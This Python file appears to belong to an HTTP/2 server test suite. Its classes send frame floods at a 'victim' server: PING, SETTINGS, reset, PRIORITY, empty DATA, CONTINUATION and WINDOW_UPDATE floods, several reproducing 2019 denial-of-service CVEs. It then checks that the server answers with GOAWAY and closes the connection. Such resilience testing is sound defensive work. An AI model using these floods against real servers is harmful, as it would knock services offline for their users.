# SPDX-License-Identifier: Apache-2.0
"""Frames that cost nothing to send."""
import time

import http2
from attack import Attack, MIB, pause
from victims import expect

CALM = (http2.ENHANCE_YOUR_CALM,)


class Flood(Attack):
    """Sends `begin`, then `chunk` again and again, until the victim closes."""
    abstract = True
    begin = b''
    chunk = b''
    reads = True         # what the victim says is read
    errors = CALM        # that its GOAWAY may have; a peer that reads nothing may miss it
    most = 64 * MIB      # bytes after which the victim has clearly not defended itself
    tolerated = False    # it costs the victim no more than it costs the attacker: it may go on

    def run(self, at):
        with at.connect() as connection:
            connection.take_in(lambda: connection.seen)
            connection.send(self.begin)
            end = time.monotonic() + 10
            connection.acknowledges = connection.answers_pings = self.reads
            while not connection.closed and connection.goaway is None:
                if self.tolerated and connection.sent >= self.most:
                    return
                expect(connection.sent < self.most, f'still open after {connection.sent} bytes')
                expect(time.monotonic() < end, f'still open after 10 s and {connection.sent} bytes')
                connection.send(self.chunk, limit=1, reading=self.reads)
            at.note('bytes sent', connection.sent)
            if self.reads:
                connection.take_in(lambda: connection.goaway, 2)
                expect(connection.goaway is not None, 'closed without GOAWAY')
                expect(connection.goaway[1] in self.errors, f'GOAWAY says {connection.goaway}')
                expect(connection.until_closed(), 'not closed after its GOAWAY')


class PingFloodUnread(Flood):
    """PINGs, their acknowledgements never read (CVE-2019-9512)"""
    chunk = http2.ping() * 2000
    reads = False


class PingFlood(Flood):
    """PINGs, their acknowledgements read"""
    chunk = http2.ping() * 2000


class SettingsFloodUnread(Flood):
    """SETTINGS, their acknowledgements never read (CVE-2019-9515)"""
    chunk = http2.settings((http2.INITIAL_WINDOW_SIZE, 65535)) * 2000
    reads = False


class SettingsFlood(Flood):
    """SETTINGS, their acknowledgements read"""
    chunk = http2.settings((http2.INITIAL_WINDOW_SIZE, 65535)) * 2000


class EmptySettingsFlood(Flood):
    """SETTINGS without a setting"""
    chunk = http2.settings() * 2000


class ResetFloodUnread(Attack):
    """Malformed requests that the victim must reset, nothing of it read (CVE-2019-9514)"""

    def run(self, at):
        malformed = http2.block([(':method', 'POST'), (':path', '/x')])  # no :scheme
        with at.connect() as connection:
            connection.take_in(lambda: connection.seen)
            for first in range(1, 200_000, 4000):
                connection.send(b''.join(http2.headers(stream, malformed) for stream in range(first, first + 4000, 2)),
                                limit=1)
                if connection.closed:
                    break
            # Its last words are waited with for a moment, and until then what comes is taken, unread.
            end = time.monotonic() + 8
            while not connection.closed and time.monotonic() < end:
                connection.send(http2.ping(), limit=1)
                pause(0.02)
            expect(connection.closed, 'still open after 100,000 malformed requests')


class PriorityLoop(Flood):
    """PRIORITY frames that reorder streams (CVE-2019-9513)"""
    chunk = b''.join(http2.frame(http2.PRIORITY, 0, 2 * i + 1, b'\0\0\0\0\x10') for i in range(2000))


class EmptyData(Flood):
    """Empty DATA frames on an open stream (CVE-2019-9518)"""
    begin = http2.headers(1, http2.request_block('/sluice.hostile.Victim/Chat'))
    chunk = http2.frame(http2.DATA, 0, 1) * 2000


class PaddedEmptyData(Flood):
    """DATA frames with nothing but padding"""
    begin = http2.headers(1, http2.request_block('/sluice.hostile.Victim/Chat'))
    chunk = http2.frame(http2.DATA, http2.PADDED, 1, b'\0') * 2000


class EmptyContinuations(Flood):
    """Empty CONTINUATION frames (CVE-2019-9518)"""
    begin = http2.headers(1, http2.request_block(), end_headers=False)
    chunk = http2.frame(http2.CONTINUATION, 0, 1) * 2000
    errors = (http2.ENHANCE_YOUR_CALM, http2.PROTOCOL_ERROR, http2.INTERNAL_ERROR)


class UnknownFrames(Flood):
    """Frames of a type that nobody knows"""
    chunk = http2.frame(0x42, 0, 0, b'x') * 2000


class WindowUpdates(Flood):
    """WINDOW_UPDATE frames of one byte, for the connection"""
    chunk = http2.window_update(0, 1) * 2000


class StreamWindowUpdates(Flood):
    """WINDOW_UPDATE frames of one byte, for a stream that sends nothing"""
    begin = http2.headers(1, http2.request_block('/sluice.hostile.Victim/Chat'))
    chunk = http2.window_update(1, 1) * 2000


class Goaways(Flood):
    """GOAWAY frames of a client that has a call open"""
    begin = http2.headers(1, http2.request_block('/sluice.hostile.Victim/Chat'))
    chunk = http2.goaway(0) * 2000
    errors = (http2.ENHANCE_YOUR_CALM, http2.NO_ERROR, http2.PROTOCOL_ERROR)


class LateFrames(Flood):
    """DATA for a stream that the client has reset itself"""
    begin = http2.headers(1, http2.request_block('/sluice.hostile.Victim/Chat')) + http2.reset(1)
    chunk = http2.data(1, b'x' * 100) * 2000
    errors = (http2.ENHANCE_YOUR_CALM, http2.STREAM_CLOSED, http2.PROTOCOL_ERROR)
    most = 8 * MIB
    tolerated = True
